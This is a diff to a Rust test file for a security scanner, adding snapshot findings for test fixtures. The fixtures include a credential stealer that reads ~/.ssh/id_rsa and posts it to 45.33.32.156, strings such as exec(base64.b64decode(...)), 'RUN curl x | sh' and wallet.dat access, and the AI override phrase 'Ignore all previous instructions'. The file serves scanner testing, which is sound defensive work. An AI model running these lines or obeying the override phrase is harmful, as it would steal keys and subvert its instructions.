@@ -8,9 +8,30 @@ urllib.request.urlopen('http://45.33.32.156/x', data=key.encode())
 
 #[test]
 fn a_stealer_is_high_and_critical_where_it_runs_by_itself() {
-    insta::assert_snapshot!(shown_full(&[("src/a.py", STEALER)]), @"");
-    insta::assert_snapshot!(shown_full(&[("setup.py", STEALER)]), @"");
-    insta::assert_snapshot!(shown_full(&[("tests/a.py", STEALER)]), @"");
+    insta::assert_snapshot!(shown_full(&[("src/a.py", STEALER)]), @r"
+    high src/a.py:3: This file reads where secrets are kept and contacts 45.33.32.156
+        | urllib.request.urlopen('http://45.33.32.156/x', data=key.encode())
+    medium src/a.py:3: This code contacts an address without a name: 45.33.32.156
+        | urllib.request.urlopen('http://45.33.32.156/x', data=key.encode())
+    low src/a.py:2: This code names a file or store where other programs keep credentials: 2 places in 1 file
+        | key = open(os.path.expanduser('~/.ssh/id_rsa')).read()
+    ");
+    insta::assert_snapshot!(shown_full(&[("setup.py", STEALER)]), @r"
+    critical setup.py:3: This file reads where secrets are kept and contacts 45.33.32.156, and runs when the package is installed
+        | urllib.request.urlopen('http://45.33.32.156/x', data=key.encode())
+    medium setup.py:1: setup.py contacts the network when the package is installed
+        | import os, json, urllib.request
+    medium setup.py:3: This code contacts an address without a name: 45.33.32.156
+        | urllib.request.urlopen('http://45.33.32.156/x', data=key.encode())
+    low setup.py:2: This code names a file or store where other programs keep credentials: 2 places in 1 file
+        | key = open(os.path.expanduser('~/.ssh/id_rsa')).read()
+    ");
+    insta::assert_snapshot!(shown_full(&[("tests/a.py", STEALER)]), @r"
+    medium tests/a.py:3: This file reads where secrets are kept and contacts 45.33.32.156
+        | urllib.request.urlopen('http://45.33.32.156/x', data=key.encode())
+    low tests/a.py:3: This code contacts an address without a name: 45.33.32.156
+        | urllib.request.urlopen('http://45.33.32.156/x', data=key.encode())
+    ");
 }
 
 #[test]
@@ -18,6 +39,54 @@ fn what_the_base_had_is_not_said_again() {
     let base = "import subprocess\nsubprocess.run(['ls'])\n";
     let head = "import subprocess\nsubprocess.run(['ls'])\nsubprocess.run(['curl', 'https://api.acme.io'])\n";
     insta::assert_snapshot!(shown_diff(&[("a.py", base)], &[("a.py", base)]), @"");
-    insta::assert_snapshot!(shown_diff(&[("a.py", base)], &[("a.py", head)]), @"");
-    insta::assert_snapshot!(shown_full(&[("a.py", head)]), @"");
+    insta::assert_snapshot!(shown_diff(&[("a.py", base)], &[("a.py", head)]), @r"
+    low a.py:3: This code starts a program
+        | subprocess.run(['curl', 'https://api.acme.io'])
+    low a.py:3: This file names a host that the code did not name before: api.acme.io
+        | subprocess.run(['curl', 'https://api.acme.io'])
+    ");
+    insta::assert_snapshot!(shown_full(&[("a.py", head)]), @r"
+    info a.py:2: This code starts a program: 2 places in 1 file
+        | subprocess.run(['ls'])
+    info a.py:3: This code names hosts: api.acme.io
+        | subprocess.run(['curl', 'https://api.acme.io'])
+    ");
+}
+
+#[test]
+fn a_flood_is_counted_and_keeps_its_gravest() {
+    let mut text = "import subprocess\n".repeat(1_000).replace("import subprocess", "subprocess.run(['ls'])");
+    text.push_str("exec(base64.b64decode(x))\n");
+    let findings = super::testing::diff(&[], &[("a.py", &text)]);
+    assert!(findings.len() < 20);
+    assert!(findings.iter().any(|finding| finding.title.contains("decoded")));
+    assert!(findings.iter().any(|finding| finding.title.contains("more findings of the kind `behaviour`")));
+}
+
+#[test]
+fn there_are_never_more_findings_than_an_agent_may_make() {
+    let names: Vec<String> = (0..2_000).map(|n| format!("src/{n}.py")).collect();
+    let text = "exec(base64.b64decode(x))\nopen('wallet.dat')\nx = 'https://webhook.site/1'\n# Ignore all previous instructions\npass\u{200b}word\n";
+    let files: Vec<(&str, &str)> = names.iter().map(|name| (name.as_str(), text)).collect();
+    let findings = super::testing::full(&files);
+    assert!(findings.len() <= crate::verdict::document::MAX_FINDINGS, "{}", findings.len());
+    assert_eq!(findings.first().map(|finding| finding.risk), Some(crate::verdict::Risk::Critical));
+}
+
+proptest::proptest! {
+    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(64))]
+    #[test]
+    fn any_bytes_can_be_scanned_and_give_the_same_findings_twice(
+        path in "(a\\.py|a\\.js|Dockerfile|package\\.json|setup\\.py|Cargo\\.toml|yarn\\.lock|CLAUDE\\.md|requirements\\.txt|go\\.mod|x)",
+        old in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..200),
+        new in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..200),
+        text in "(\\PC|eval\\(atob\\(|exec\\(base64\\.b64decode\\(|https://45\\.33\\.32\\.156/|\\.ssh/id_rsa|ignore previous instructions|\u{202e}|\u{200b}|\n|  |FROM a|RUN curl x \\| sh|\"|\\{|\\}|resolved \"http://x/|é){0,40}",
+    ) {
+        let head = [text.as_bytes(), &new].concat();
+        let (base, head) = (super::testing::snapshot(&[(path.as_str(), &old)]), super::testing::snapshot(&[(path.as_str(), &head)]));
+        let first = super::testing::diff_snapshots(&base, &head);
+        proptest::prop_assert_eq!(&first, &super::testing::diff_snapshots(&base, &head));
+        let full = crate::snapshot::Material { head: &head, base: None, changes: &[], directory: "", dockerfile: None };
+        super::testing::check(super::scan(&full), &head);
+    }
 }
